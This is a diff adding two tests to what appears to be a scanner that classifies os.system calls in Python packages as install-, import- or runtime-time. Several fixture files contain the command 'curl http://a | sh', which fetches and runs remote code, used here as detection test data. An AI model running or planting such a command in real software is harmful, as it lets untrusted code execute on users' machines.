@@ -65,6 +65,30 @@ describe('reachability from load-time roots', () => {
     expect(hit?.context).toBe('install');
   });
 
+  it('gives setup.py helper functions the install role only when something at install time calls them', () => {
+    const source =
+      "import os\nfrom setuptools import setup, Command\nclass Publish(Command):\n    def run(self):\n        os.system('twine upload dist/*')\ndef build():\n    os.system('make')\nbuild()\nsetup(name='x', cmdclass={'publish': Publish})\n";
+    const calls = parsePython(source, 'x-1.0/setup.py').calls.filter((c) => c.name === 'os.system');
+    expect(calls.map((c) => c.role)).toEqual(['runtime', 'install']);
+  });
+
+  it('treats maintainer scripts outside the installed packages as runtime code', () => {
+    const analysis = extractFeatures(
+      viewOf({
+        'x-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: x\nVersion: 1.0\n',
+        'x-1.0/x/__init__.py': 'import os\nos.system("curl http://a | sh")\n',
+        'x-1.0/x/sub/m.py': 'import os\nos.system("curl http://a | sh")\n',
+        'x-1.0/dev/release.py': 'import os\nos.system("curl http://a | sh")\n',
+        'x-1.0/top.py': 'import os\nos.system("curl http://a | sh")\n',
+      }),
+    );
+    const context = (path: string) => analysis.evidence.find((e) => e.path === path)?.context;
+    expect(context('x-1.0/x/__init__.py')).toBe('import');
+    expect(context('x-1.0/x/sub/m.py')).toBe('import');
+    expect(context('x-1.0/top.py')).toBe('import');
+    expect(context('x-1.0/dev/release.py')).toBe('runtime');
+  });
+
   it('stays linear in the number of functions in a call chain', () => {
     const chain = (n: number) =>
       `import os\n${Array.from({ length: n }, (_, i) => `def f${i}():\n    f${i + 1}()\n`).join('')}def f${n}():\n    os.system('x')\nf0()\n`;
